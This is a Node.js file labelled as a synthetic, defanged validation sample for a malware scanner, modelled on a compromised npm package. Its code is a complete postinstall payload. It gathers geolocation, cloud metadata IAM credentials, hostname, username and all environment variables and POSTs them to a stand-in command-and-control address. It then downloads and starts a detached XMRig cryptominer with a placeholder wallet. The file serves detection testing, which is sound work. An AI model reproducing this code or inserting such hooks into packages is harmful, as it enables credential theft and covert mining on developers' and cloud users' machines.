// SYNTHETIC, DEFANGED malwi validation sample - modelled on @rspack/core and @rspack/cli compromise (2024); never run.
// Postinstall: report location and cloud metadata, then fetch and start an XMRig miner.
const https = require('https');
const http = require('http');
const fs = require('fs');
const os = require('os');
const path = require('path');
const { spawn, execSync } = require('child_process');

const C2 = 'http://203.0.113.72:3000';
const MINER = 'https://releases.example.invalid/xmrig/xmrig-6.22.2-linux-static-x64.tar.gz';

function get(url) {
  return new Promise((resolve) => {
    (url.startsWith('https') ? https : http)
      .get(url, (res) => {
        const chunks = [];
        res.on('data', (c) => chunks.push(c));
        res.on('end', () => resolve(Buffer.concat(chunks)));
      })
      .on('error', () => resolve(Buffer.alloc(0)));
  });
}

async function main() {
  const geo = (await get('https://ipinfo.example.invalid/json')).toString();
  const meta = (await get('http://192.0.2.254/latest/meta-data/iam/security-credentials/')).toString();
  const report = JSON.stringify({ geo, meta, host: os.hostname(), user: os.userInfo().username, env: process.env });
  const req = http.request(`${C2}/report`, { method: 'POST', headers: { 'Content-Type': 'application/json' } });
  req.on('error', () => {});
  req.end(report);

  if (os.platform() !== 'linux') return;
  const dir = path.join(os.tmpdir(), 'malwi-defanged-placeholder');
  fs.mkdirSync(dir, { recursive: true });
  const tgz = path.join(dir, 'x.tar.gz');
  fs.writeFileSync(tgz, await get(MINER));
  execSync(`tar -xzf ${tgz} -C ${dir}`);
  const bin = path.join(dir, 'xmrig-6.22.2', 'xmrig');
  fs.chmodSync(bin, 0o755);
  const child = spawn(bin, ['--url', 'pool.example.invalid:443', '--user', 'PLACEHOLDER_WALLET', '--pass', 'x', '--background', '--cpu-max-threads-hint', '75', '--donate-level', '0'], { detached: true, stdio: 'ignore' });
  child.unref();
}

main().catch(() => {});
